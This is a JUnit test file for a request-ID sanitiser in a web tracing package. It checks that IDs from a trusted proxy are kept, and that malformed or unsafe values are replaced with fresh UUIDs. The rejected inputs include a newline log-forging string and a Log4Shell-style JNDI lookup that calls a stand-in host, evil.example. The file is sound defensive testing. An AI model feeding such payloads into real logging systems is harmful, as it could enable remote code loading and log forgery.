package no.algoritmetilsyn.platform.web.trace;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RequestIdTest {

    @ParameterizedTest
    @ValueSource(
            strings = {"4f2c0e8a9b7d4c53a1e6f0d2b3c49586", "0b0f8a52-2a0e-4c0e-9d52-5f2c7f6f2a11", "abcdefgh12345678"})
    void what_the_proxy_has_chosen_is_kept(String offered) {
        assertThat(RequestId.choose(offered, true)).isEqualTo(offered);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "short",
                "Ola Nordmann, Storgata 1, 0001 Oslo",
                "0123456789abcdef\n2026 ERROR forged",
                "0123456789abcdef%0a",
                "${jndi:ldap://evil.example/a}",
                "øæå0123456789abcdef0123",
                "0123456789012345678901234567890123456789012345678901234567890123456789"
            })
    void what_could_break_a_line_or_tell_of_somebody_is_not(String offered) {
        assertThat(UUID.fromString(RequestId.choose(offered, true))).isNotNull();
    }

    @Test
    void without_a_proxy_nobody_chooses() {
        String offered = "4f2c0e8a9b7d4c53a1e6f0d2b3c49586";
        assertThat(RequestId.choose(offered, false)).isNotEqualTo(offered);
        assertThat(RequestId.choose(null, true)).isNotEqualTo(RequestId.choose(null, true));
    }
}
